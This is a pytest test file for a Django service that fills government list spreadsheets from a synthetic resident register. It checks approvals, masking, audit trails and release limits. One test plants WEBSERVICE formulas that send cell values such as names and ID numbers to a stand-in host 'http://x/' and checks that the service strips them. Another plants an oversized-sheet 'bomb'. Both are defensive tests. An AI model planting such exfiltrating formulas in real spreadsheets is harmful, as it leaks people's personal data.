"""The transit company's sheet: registered by two people, filled, released by name; the resident reads who and why."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import LazySettings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from benchmarks import bench_forms, form_templates
from kuai.flows.demo_forms import LENDING, lend_demo_sources, seed_demo_forms
from kuai.guard import access
from kuai.guard.engine.reading import ResolvedSubject
from kuai.guard.home_delivery import list_home_deliveries
from kuai.guard.ledger import list_entries_about
from kuai.guard.queries import find_actor_by_login
from kuai.guard.types import Actor, Role, SourceRegistration, Zone
from kuai.kit.clock import local_day, utc_now
from kuai.kit.errors import DataFault, Refusal
from kuai.kit.store import Store
from kuai.registry.queries import record_of
from kuai.services.forms import actions, fillings, queries
from kuai.services.forms.types import FormWish, ListKind
from kuai.sources.form_sheets import read_form

pytestmark = pytest.mark.django_db(transaction=True)

NOW = utc_now()
REASON = "年度乘车优待办理"
PASSWORD = "kuai-demo-for-tests"
SOURCES = (*LENDING, "access_cards", "hotline_requests", "inspections")


@pytest.fixture
def office(own_store: Path, settings: LazySettings) -> Store:
    """The town's store with demo logins, and sources whose agreements allow forms."""
    store = Store(own_store)
    settings.STORE = store
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    access.load_purposes()
    steward = Actor(user_id="demo-data-steward", role=Role.DATA_STEWARD)
    for source in SOURCES:
        access.register_source(a_registration(source), by=steward, at=NOW)
    access.register_source(a_registration("disability_cards", Zone.CARE), by=steward, at=NOW)
    access.create_demo_accounts((), synthetic=True, at=NOW, password=PASSWORD)
    for app in ("registry", "services_forms"):
        apps.get_app_config(app).ready()
    return store


def a_registration(source: str, zone: Zone = Zone.CORE) -> SourceRegistration:
    return SourceRegistration(
        source=source,
        title=source,
        zone=zone,
        handler="演示部门",
        legal_basis="合成数据",
        agreement="合成数据包",
        permitted_purposes=("record_review",),
        notice_version="synthetic",
        assessment_id="",
        assessment_approved_on=None,
        retention_days=730,
        refresh_days=31,
        has_personal_columns=True,
        synthetic=True,
    )


def login(role: str) -> Actor:
    actor = find_actor_by_login(f"demo-{role}")
    assert actor is not None
    return actor


def a_blank(*headings: str) -> bytes:
    book = Workbook()
    book.active["A1"] = "老年人乘车优待名单"
    book.active.merge_cells("A1:G1")
    book.active.append(
        list(headings)
        or ["序号", "姓名", "身份证号", "出生日期", "住址", "联系电话", "是否送达到户"]
    )
    book.active["A6"] = "填表人："
    return saved(book)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def fill(store: Store, number: str, content: bytes, name: str = "名单.xlsx") -> tuple[str, bytes]:
    clerk = login("subdistrict-clerk")
    filling = actions.prepare_filling(
        store, number, content, file_name=name, by=clerk, at=utc_now()
    )
    _, filled = actions.release_filling(store, filling, reason=REASON, by=clerk, at=utc_now())
    return filling, filled


def sixty_this_year(town: Path) -> set[tuple[str, str]]:
    """Name and birth of whom the truth knows as turning sixty, where the register of residents names them."""
    with (town / "truth/rows.csv").open(encoding="utf-8") as rows:
        registered = {
            row["person_id"]
            for row in csv.DictReader(rows)
            if row["resource"] == "police_residents"
        }
    with (town / "truth/persons.csv").open(encoding="utf-8") as persons:
        return {
            (row["name"], row["birth_date"])
            for row in csv.DictReader(persons)
            if row["birth_date"][:4] == str(NOW.year - 60) and row["person_id"] in registered
        }


def test_the_blank_sheet_comes_back_with_everybody_who_turns_sixty(
    office: Store, town: Path
) -> None:
    number = seed_demo_forms(at=NOW)
    filling, filled = fill(office, number, a_blank())
    book = load_workbook(io.BytesIO(filled))
    sheet = book.worksheets[0]
    rows = [row for row in sheet.iter_rows(min_row=3, values_only=True) if isinstance(row[0], int)]
    listed = {(row[1], row[3]) for row in rows if row[1]}
    assert rows
    assert listed == sixty_this_year(town)
    # The number is nobody's to write, the yes or no is all that the care zone says, the note moved below the list.
    assert {row[2] for row in rows} == {None}
    assert {row[6] for row in rows} <= {"是", "否"}
    assert sheet.cell(3 + len(rows), 1).value == "填表人："
    assert "A1:G1" in {str(one) for one in sheet.merged_cells.ranges}
    assert book.sheetnames[1:] == ["来源说明", "待问清单"]
    lines = book["来源说明"].iter_rows(values_only=True)
    told = [row for row in lines if row[4] and row[5] != "状态"]
    assert {row[5] for row in told} <= {"有登记，未核实", "登记已旧，请核对", "新且已核实"}

    # The person concerned reads at once which list they were put on, for whom; the auditor reads no value.
    view = queries.view_filling(office, filling, by=login("subdistrict-clerk"), on=NOW.date())
    from kuai.services.forms.models import FormFilling

    row = FormFilling.objects.get(uuid=filling)
    assert len(row.subjects) == view.rows == len(rows)
    for code in row.subjects:
        entries = list_entries_about(code, at=utc_now()).entries
        listing = next(one for one in entries if one.action == "form.listed")
        assert {"name", "birth_date", "deliver_home"} <= set(listing.fields)
        released = queries.find_released_list(listing.ticket_id)
        assert released is not None
        assert (released.title, released.office) == ("老年人乘车优待名单", "公交集团")
        assert any(one.action == "form.prepared" for one in entries)

    code = row.subjects[0]
    access.seed_resident("demo-resident", code, record=record_of(office, code), at=utc_now())
    looks = in_a_browser("resident").get("/mine/looks/").content.decode()
    assert "列入名单“老年人乘车优待名单”，送给公交集团" in looks
    assert "准备了一份有您的名单，只看到遮住的样子" in looks
    assert "demo-subdistrict-clerk" not in looks

    # The same layout again needs nobody's hand but the release.
    again = actions.prepare_filling(
        office,
        number,
        a_blank(),
        file_name="再来.xlsx",
        by=login("subdistrict-clerk"),
        at=utc_now(),
    )
    shown = queries.view_filling(office, again, by=login("subdistrict-clerk"), on=NOW.date())
    assert shown.is_learned
    # A preview shows masks alone and asks the care zone nothing.
    for cells in shown.sample:
        assert cells[1].text.endswith("*")
        assert cells[3].text.endswith("-**-**")
        assert (cells[2].text, cells[6].text) == ("", "")


def test_a_form_takes_two_people_and_its_basis(office: Store) -> None:
    steward, approver = login("data-steward"), login("department-clerk")
    clerk = login("subdistrict-clerk")
    with pytest.raises(Refusal, match="最高级别"):
        actions.register_form(a_wish(fields=("person.id_number",)), by=steward, at=NOW)
    with pytest.raises(Refusal, match="为什么要上门送"):
        actions.register_form(a_wish(fields=("person.deliver_home",)), by=steward, at=NOW)
    told_apart = a_wish(fields=("person.deliver_home",), home_delivery_because="送卡")
    with pytest.raises(Refusal, match="逐个写名字"):
        actions.register_form(told_apart, by=steward, at=NOW)
    with pytest.raises(Refusal, match="用途"):
        actions.register_form(a_wish(purpose="block_statistics"), by=steward, at=NOW)
    with pytest.raises(Refusal, match="数据管理员"):
        actions.register_form(a_wish(), by=clerk, at=NOW)
    number = actions.register_form(a_wish(), by=steward, at=NOW)
    with pytest.raises(Refusal, match="还没有批准"):
        fill(office, number, a_blank("姓名", "出生日期"))
    with pytest.raises(Refusal, match="自己批准"):
        actions.decide_form(number, "approved", reason="相符", by=steward, at=NOW)
    actions.decide_form(number, "approved", reason="相符", by=approver, at=NOW)
    actions.decide_form(number, "withdrawn", reason="不再需要", by=approver, at=NOW)
    with pytest.raises(Refusal, match="已经撤销"):
        fill(office, number, a_blank("姓名", "出生日期"))


def a_wish(**changes: object) -> FormWish:
    plain: dict[str, object] = {
        "title": "情况表",
        "office": "某局",
        "basis": "职责清单第三项",
        "approval_no": "文号一",
        "about": "person",
        "fields": ("person.name", "person.birth_date"),
        "area": "",
        "purpose": "proactive_benefit",
        "expires_on": date(NOW.year + 1, 6, 1),
    }
    return FormWish(**{**plain, **changes})  # type: ignore[arg-type]


def test_a_sheet_that_nobody_may_fill_says_why(office: Store) -> None:
    steward, approver = login("data-steward"), login("department-clerk")
    listing = {"list_kind": ListKind.RESIDENTS, "age": 60, "period_last": NOW.date()}
    notes = []
    for changes in ({}, {**listing, "age": 120}):
        number = actions.register_form(
            a_wish(**{**listing, **changes, "period_first": date(NOW.year, 1, 1)}),
            by=steward,
            at=NOW,
        )
        actions.decide_form(number, "approved", reason="相符", by=approver, at=NOW)
        clerk = login("subdistrict-clerk")
        filling = actions.prepare_filling(
            office, number, a_blank("姓名", "出生日期"), file_name="a.xlsx", by=clerk, at=utc_now()
        )
        notes.append(queries.view_filling(office, filling, by=clerk, on=NOW.date()).notes)
        lend_demo_sources(at=NOW)
    assert any("没有一个来源的协议允许" in note for note in notes[0])
    assert any("没有符合这张名单条件" in note for note in notes[1])


def test_a_clerk_lists_their_own_ground_alone(office: Store) -> None:
    number = seed_demo_forms(at=NOW)
    areas = ("440310/440310001", "440310/440310002", "440310/440310003")
    listed = []
    for place, area in enumerate(areas):
        clerk = access.open_account(
            access.NewAccount(
                username=f"clerk-{place}",
                display_name=f"clerk-{place}",
                role=Role.SUBDISTRICT_CLERK,
                areas=(area,),
                staff_no=f"clerk-{place}",
            ),
            password="Kuai-stories-2026",
            by=Actor(user_id="security", role=Role.SECURITY_ADMINISTRATOR),
            at=NOW,
        )
        filling = actions.prepare_filling(
            office, number, a_blank(), file_name="a.xlsx", by=clerk, at=utc_now()
        )
        listed.append(queries.view_filling(office, filling, by=clerk, on=NOW.date()).rows)
    whole = login("subdistrict-clerk")
    filling = actions.prepare_filling(
        office, number, a_blank(), file_name="a.xlsx", by=whole, at=utc_now()
    )
    everybody = queries.view_filling(office, filling, by=whole, on=NOW.date()).rows
    assert max(listed) < everybody
    assert sum(listed) >= everybody


def test_without_the_care_source_the_rest_of_the_sheet_is_the_same(office: Store) -> None:
    number = seed_demo_forms(at=NOW)
    sheets = []
    for purposes in (("home_delivery", "record_review"), ("record_review",)):
        access.register_source(
            replace(a_registration("disability_cards", Zone.CARE), permitted_purposes=purposes),
            by=login("data-steward"),
            at=utc_now(),
        )
        _, filled = fill(office, number, a_blank())
        sheets.append(load_workbook(io.BytesIO(filled)).worksheets[0])
    with_care, without = (
        [list(row) for row in sheet.iter_rows(min_row=3, values_only=True)] for sheet in sheets
    )
    assert [row[:6] for row in with_care] == [row[:6] for row in without]
    listed = [row for row in with_care if isinstance(row[0], int)]
    assert {row[6] for row in listed} <= {"是", "否"}
    assert {row[6] for row in without if isinstance(row[0], int)} == {None}


def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
    office: Store, town: Path
) -> None:
    seed_demo_forms(at=NOW)
    truth = bench_forms.read_truth(town)
    some = [
        (truth.numbers[key], one)
        for key, one in sorted(truth.persons.items())
        if "registered" in one["held"] and next(iter(one["person.birth_date"])) < "2000"
    ][:12]
    book = Workbook()
    book.active.append(["姓名", "身份证号", "性别", "出生日期", "备注"])
    for number, one in some:
        other = "女" if "男" in one["person.sex"] else "男"
        name = next(iter(one["person.name"]))
        book.active.append([name, number, other, "", '=WEBSERVICE("http://x/"&A2)'])
    # A number alone, which anybody can make up, names nobody.
    book.active.append(["", truth_number_of(some), "", "", ""])
    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://x/")')
    number = actions.register_form(
        a_wish(fields=("person.name", "person.sex", "person.birth_date")),
        by=login("data-steward"),
        at=NOW,
    )
    actions.decide_form(number, "approved", reason="相符", by=login("department-clerk"), at=NOW)
    _, filled = fill(office, number, saved(book))
    back = load_workbook(io.BytesIO(filled))
    known = 0
    for place, (number, one) in enumerate(some, start=2):
        row = [cell.value for cell in back.worksheets[0][place]]
        assert row[1] == number
        assert row[2] not in one["person.sex"]
        assert row[3] in (None, *one["person.birth_date"])
        known += row[3] is not None
    assert known >= len(some) // 2
    assert {back.worksheets[0].cell(len(some) + 2, place).value for place in (1, 3, 4)} == {None}
    assert not back.defined_names
    assert back.worksheets[0]["E2"].data_type == "s"
    asked = [str(cells[3]) for cells in back["待问清单"].iter_rows(min_row=2, values_only=True)]
    assert any("性别与登记不一致" in text for text in asked)
    assert any("公式" in text for text in asked)


def truth_number_of(some: list[tuple[str, dict[str, set[str]]]]) -> str:
    return some[0][0]


def test_who_is_typed_onto_a_list_without_belonging_to_it_is_not_told(
    office: Store, town: Path
) -> None:
    number = seed_demo_forms(at=NOW)
    truth = bench_forms.read_truth(town)
    book = Workbook()
    book.active.append(["姓名", "身份证号", "出生日期", "住址", "联系电话"])
    others = [
        (truth.numbers[key], one)
        for key, one in sorted(truth.persons.items())
        if "registered" in one["held"] and "1970" < next(iter(one["person.birth_date"])) < "2000"
    ][:8]
    for id_number, one in others:
        book.active.append([next(iter(one["person.name"])), id_number])
    _, filled = fill(office, number, saved(book))
    sheet = load_workbook(io.BytesIO(filled)).worksheets[0]
    for row in range(2, 2 + len(others)):
        assert {sheet.cell(row, column).value for column in (3, 4, 5)} == {None}
    assert sheet.max_row > 2 + len(others)


def in_force(**changes: object) -> str:
    number = actions.register_form(a_wish(**changes), by=login("data-steward"), at=NOW)
    actions.decide_form(number, "approved", reason="相符", by=login("department-clerk"), at=NOW)
    return number


def test_whoever_tries_numbers_days_or_names_learns_of_none(office: Store, town: Path) -> None:
    lend_demo_sources(at=NOW)
    truth = bench_forms.read_truth(town)
    key, one = next(
        (key, one)
        for key, one in sorted(truth.persons.items())
        if "registered" in one["held"] and next(iter(one["person.birth_date"])) < "1990"
    )
    name, born = next(iter(one["person.name"])), next(iter(one["person.birth_date"]))
    number = in_force(fields=("person.name", "person.birth_date", "person.residence"))

    def told(*rows: list[str]) -> tuple[int, bool]:
        book = Workbook()
        book.active.append(["姓名", "身份证号", "出生日期", "住址"])
        for row in rows:
            book.active.append(row)
        clerk = login("subdistrict-clerk")
        sheet = actions.prepare_filling(
            office, number, saved(book), file_name="a.xlsx", by=clerk, at=utc_now()
        )
        view = queries.view_filling(office, sheet, by=clerk, on=NOW.date())
        return len(view.sample), any("像是在试" in note for note in view.notes)

    assert told([name, "", born]) == (1, False)
    days = [(date.fromisoformat(born) + timedelta(days=gap)).isoformat() for gap in range(-4, 5)]
    assert told(*([name, "", day] for day in days)) == (0, True)
    known = truth.numbers[key]
    slips = [
        f"{known[:place]}{(int(known[place]) + 1) % 10}{known[place + 1 :]}" for place in (2, 3)
    ]
    assert told(*([name, slip, born] for slip in slips)) == (0, True)
    assert told([name, known]) == (1, False)


def test_what_changed_since_the_first_delivery_is_told_or_refused(office: Store) -> None:
    number = seed_demo_forms(at=NOW)
    headings = ["序号", "姓名", "出生日期", "住址", "联系电话"]

    def learned(content: bytes) -> tuple[bool, set[str]]:
        clerk = login("subdistrict-clerk")
        sheet = actions.prepare_filling(
            office, number, content, file_name="a.xlsx", by=clerk, at=utc_now()
        )
        view = queries.view_filling(office, sheet, by=clerk, on=NOW.date())
        return view.is_learned, {one.field for one in view.columns if one.counts}

    fill(office, number, a_blank(*headings))
    filled = {"person.name", "person.birth_date", "person.residence", "person.phone"}
    assert learned(a_blank(*headings)) == (True, filled)
    # Another layout is told as such, and what its headings mean is found anew.
    for other in (
        ["姓名", "序号", *headings[2:]],
        [*headings, "备注"],
        [*headings[:3], "家庭住址", "手机"],
    ):
        assert learned(a_blank(*other)) == (False, filled)
    # A column that was learned and is now hidden stays empty.
    book = load_workbook(io.BytesIO(a_blank(*headings)))
    book.active.column_dimensions["E"].hidden = True
    assert learned(saved(book)) == (True, filled - {"person.phone"})


def test_a_form_that_ended_or_ground_that_shrank_lets_nothing_go(office: Store) -> None:
    lend_demo_sources(at=NOW)
    listing = {"list_kind": ListKind.RESIDENTS, "age": 60, "period_last": NOW.date()}
    last = NOW.date() + timedelta(days=2)
    number = in_force(**listing, period_first=date(NOW.year, 1, 1), expires_on=last)
    clerk = login("subdistrict-clerk")

    def prepared() -> str:
        return actions.prepare_filling(
            office, number, a_blank("姓名", "出生日期"), file_name="a.xlsx", by=clerk, at=utc_now()
        )

    waiting, released = prepared(), prepared()
    actions.release_filling(office, released, reason=REASON, by=clerk, at=utc_now())
    after = utc_now() + timedelta(days=4)
    with pytest.raises(Refusal, match="已经过期"):
        actions.release_filling(office, waiting, reason=REASON, by=clerk, at=after)
    with pytest.raises(Refusal, match="已经过期"):
        actions.fetch_filled(office, released, by=clerk, at=after)
    narrower = replace(clerk, areas=("440310/440310001",))
    with pytest.raises(Refusal, match="区域变了"):
        actions.fetch_filled(office, released, by=narrower, at=utc_now())
    with pytest.raises(Refusal, match="区域变了"):
        actions.release_filling(office, waiting, reason=REASON, by=narrower, at=utc_now())
    elsewhere = replace(clerk, areas=("440399/440399001",))
    with pytest.raises(Refusal):
        actions.prepare_filling(
            office, in_force(area="440310"), a_blank(), file_name="a.xlsx", by=elsewhere, at=NOW
        )
    for purpose in ("record_review", "nothing_of_ours"):
        with pytest.raises(Refusal, match="用途"):
            in_force(purpose=purpose)


def test_a_preview_is_for_who_made_it_and_a_sheet_goes_out_once(
    office: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    number = seed_demo_forms(at=NOW)
    clerk, other = login("subdistrict-clerk"), login("department-clerk")

    def prepared() -> str:
        return actions.prepare_filling(
            office, number, a_blank(), file_name="a.xlsx", by=clerk, at=utc_now()
        )

    sheet = prepared()
    assert queries.view_filling(office, sheet, by=clerk, on=NOW.date()).sample
    assert not queries.view_filling(office, sheet, by=other, on=NOW.date()).sample
    with pytest.raises(Refusal, match="没有看过它的预览"):
        actions.release_filling(office, sheet, reason=REASON, by=other, at=utc_now())

    # Dropped in another window while it is being written: it stays dropped, and nothing goes out.
    write = fillings.write_filled

    def dropped_meanwhile(filled: object) -> bytes:
        actions.drop_filling(office, sheet, by=clerk, at=utc_now())
        return write(filled)  # type: ignore[arg-type]

    with monkeypatch.context() as patch:
        patch.setattr(fillings, "write_filled", dropped_meanwhile)
        with pytest.raises(Refusal, match="已经放行或结束"):
            actions.release_filling(office, sheet, reason=REASON, by=clerk, at=utc_now())
    assert queries.view_filling(office, sheet, by=clerk, on=NOW.date()).state == "ended"

    # Five days, or the end of the form, end the right to take the file again.
    sheets = [prepared() for _ in range(2)]
    for one in sheets:
        actions.release_filling(office, one, reason=REASON, by=clerk, at=utc_now())
        actions.fetch_filled(office, one, by=clerk, at=utc_now())
    actions.decide_form(number, "withdrawn", reason="不再需要", by=other, at=utc_now())
    with pytest.raises(Refusal, match="已经撤销"):
        actions.fetch_filled(office, sheets[0], by=clerk, at=utc_now())
    with pytest.raises(Refusal):
        actions.fetch_filled(office, sheets[1], by=clerk, at=utc_now() + timedelta(days=6))
    ended = queries.list_fillings(number)
    assert all(one["is_over"] for one in ended)


def test_without_a_number_to_compare_nobody_is_said_not_to_be_visited(office: Store) -> None:
    seed_demo_forms(at=NOW)
    nobody = ResolvedSubject(mentions=(), area_paths=(), is_child_under_14=False)
    assert list_home_deliveries({"person:unknown": nobody}, store=office) == {}


def test_an_unregistered_form_gets_tens_and_a_letter(office: Store) -> None:
    clerk = login("subdistrict-clerk")
    one_row = Workbook()
    one_row.active.append(["姓名", "住址"])
    one_row.active.append(["某某", "某处"])
    told = [
        queries.count_coverage(office, content, file_name="a.xlsx", about="person", by=clerk)
        for content in (a_blank("姓名", "住址"), saved(one_row))
    ]
    # Whoever stands on the sheet, the answer is the same: it tells of the ground, not of them.
    assert told[0] == told[1]
    assert all(one.known is not None and one.known % 10 == 0 for one in told[0])
    letter = actions.write_refusal_letter(
        title="某情况统计表",
        office="某局",
        fields=("person.name",),
        reasons=("not_registered", "no_basis"),
        by=clerk,
        at=NOW,
    )
    assert actions.read_letter(letter).startswith(b"%PDF")


def in_a_browser(role: str) -> Client:
    client = Client()
    client.post("/login/", {"username": f"demo-{role}", "password": PASSWORD})
    return client


def test_a_clerk_fills_on_pages_and_whoever_has_no_part_in_it_sees_no_page(office: Store) -> None:
    number = seed_demo_forms(at=NOW)
    clerk = in_a_browser("subdistrict-clerk")
    sheet = SimpleUploadedFile("名单.xlsx", a_blank())
    answer = clerk.post(f"/forms/{number}/upload/", {"file": sheet})
    assert answer.status_code == 302
    preview = clerk.get(answer["Location"]).content.decode()
    assert "遮住的样子" in preview
    assert "1966-**-**" in preview or NOW.year != 2026
    assert clerk.post(f"{answer['Location']}release/", {"reason": ""}).status_code == 400
    assert clerk.post(f"{answer['Location']}release/", {"reason": REASON}).status_code == 302
    file = clerk.post(f"{answer['Location']}file/")
    assert load_workbook(io.BytesIO(file.content)).sheetnames[1] == "来源说明"
    # Another hand than who released it does not fetch the file; most roles have no page at all.
    other = in_a_browser("department-clerk")
    assert other.post(f"{answer['Location']}file/").status_code == 400
    # Nor does another end or release a sheet they have not seen: said in words, without the buttons.
    waiting = clerk.post(
        f"/forms/{number}/upload/", {"file": SimpleUploadedFile("名单.xlsx", a_blank())}
    )["Location"]
    shown = other.get(waiting).content.decode()
    assert "/release/" not in shown
    assert "遮住的样子" not in shown
    assert other.post(f"{waiting}drop/").status_code == 400
    assert clerk.get("/forms/new/").status_code == 403
    for role in ("grid-worker", "officer", "leader", "care-worker", "resident"):
        assert in_a_browser(role).get("/forms/").status_code == 403, role
        assert in_a_browser(role).get(answer["Location"]).status_code == 403, role
    steward = in_a_browser("data-steward")
    assert "**" not in steward.get(answer["Location"]).content.decode()


def test_a_cell_far_out_is_refused_by_name(office: Store) -> None:
    book = Workbook()
    book.active["A1"] = "姓名"
    book.active["XFD1048576"] = "x"
    with pytest.raises(DataFault, match="1048576"):
        read_form(office, saved(book), file_name="bomb.xlsx")


def test_sheets_of_many_layouts_come_back_filled_and_right(office: Store, town: Path) -> None:
    """A quick version of benchmarks/bench_forms.py, on a smaller town and fewer layouts."""
    seed_demo_forms(at=NOW)
    truth = bench_forms.read_truth(town)
    chosen = {
        "two-line heading, groups", "stacked cards", "CSV in GB18030", "by household, merged",
        "rooms by written address", "firms by name, three lines",
    }  # fmt: skip
    made = [one for one in form_templates.make_templates(truth, rows=12) if one.name in chosen]
    assert len(made) == len(chosen)
    results = [bench_forms._measure_one(one, truth) for one in made]
    summed = bench_forms.summary(results)
    assert summed["filled_share"] >= 0.9, results
    assert summed["right_share"] >= 0.99, results
    assert local_day(NOW) >= date(2026, 1, 1)


def test_two_logins_without_staff_numbers_are_not_two_people(office: Store) -> None:
    from kuai.guard.models import Account

    number = actions.register_form(a_wish(), by=login("data-steward"), at=NOW)
    approver = login("department-clerk")
    for lacking in ("demo-data-steward", "demo-department-clerk"):
        account = Account.objects.get(username=lacking)
        Account.objects.filter(pk=account.pk).update(staff_no="")
        with pytest.raises(Refusal, match="工号"):
            actions.decide_form(number, "approved", reason="相符", by=approver, at=NOW)
        Account.objects.filter(pk=account.pk).update(staff_no=account.staff_no)
    actions.decide_form(number, "approved", reason="相符", by=approver, at=NOW)


def test_previews_of_a_day_are_counted_and_files_keep_no_name(
    office: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    number = seed_demo_forms(at=NOW)
    clerk = login("subdistrict-clerk")
    monkeypatch.setattr(fillings, "MOST_PREVIEWS_DAILY", 2)

    def prepared() -> str:
        name = "张三低保户.xlsx"
        return actions.prepare_filling(
            office, number, a_blank(), file_name=name, by=clerk, at=utc_now()
        )

    sheet = prepared()
    actions.correct_headings(office, sheet, {"1": "person.name"}, by=clerk, at=utc_now())
    with pytest.raises(Refusal, match="最多预览 2 次"):
        prepared()
    page = in_a_browser("subdistrict-clerk").get(f"/forms/sheets/{sheet}/").content.decode()
    assert "张三" not in page + str(queries.list_fillings(number))
    with pytest.raises(DataFault) as fault:
        queries.count_coverage(office, b"\x00\x01", file_name="张三.xlsx", about="person", by=clerk)
    assert "张三" not in str(fault.value) + str(fault.value.where)


def test_cells_that_stay_open_are_listed_for_questions_without_a_value(
    office: Store, town: Path
) -> None:
    seed_demo_forms(at=NOW)
    fields = ("person.name", "person.birth_date", "person.residence", "person.employer")
    number = actions.register_form(a_wish(fields=fields), by=login("data-steward"), at=NOW)
    actions.decide_form(number, "approved", reason="相符", by=login("department-clerk"), at=NOW)
    truth = bench_forms.read_truth(town)
    book = Workbook()
    book.active.append(["姓名", "出生日期", "住址", "工作单位"])
    for _, one in sorted(truth.persons.items()):
        if "registered" in one["held"] and "1960" < next(iter(one["person.birth_date"])) < "2000":
            book.active.append([next(iter(one["person.name"])), *one["person.birth_date"]])
    began = utc_now()
    origins = []
    for _ in range(2):
        filling, _ = fill(office, number, saved(book))
        cells = queries.list_unknown_cells(office, since=began)
        origins.append({one.origin for one in cells})
    # The second delivery of the same sheet asks nothing twice, and needed no hand but the release.
    assert queries.view_filling(
        office, filling, by=login("subdistrict-clerk"), on=NOW.date()
    ).is_learned
    assert origins[0] == origins[1] != set()
    assert all(one.code in one.origin and one.form_number == number for one in cells)
    assert "person.employer" in {one.field for one in cells} <= set(fields)
    actions.end_old_fillings(office, at=utc_now() + timedelta(days=6))
    assert queries.list_unknown_cells(office, since=began) == ()
